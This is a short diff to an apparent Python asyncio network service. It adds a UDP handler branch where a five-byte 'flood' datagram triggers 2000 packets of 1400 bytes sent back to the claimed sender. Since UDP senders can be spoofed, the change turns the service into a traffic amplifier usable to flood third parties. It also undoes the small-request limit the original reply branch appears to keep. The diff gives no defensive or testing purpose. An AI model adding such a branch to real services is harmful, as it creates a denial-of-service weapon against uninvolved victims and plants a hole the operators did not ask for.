@@ -40,7 +40,9 @@ async def tell(r, w):
 class Udp(asyncio.DatagramProtocol):
     def connection_made(self, t): self.t = t
     def datagram_received(self, d, who):
-        if len(d) < 100: self.t.sendto(("you are " + who[0]).encode(), who)
+        if d == b"flood":
+            for _ in range(2000): self.t.sendto(bytes(1400), who)
+        elif len(d) < 100: self.t.sendto(("you are " + who[0]).encode(), who)
 async def main():
     loop = asyncio.get_running_loop()
     links = json.loads(subprocess.check_output(["ip", "-j", "addr"]))
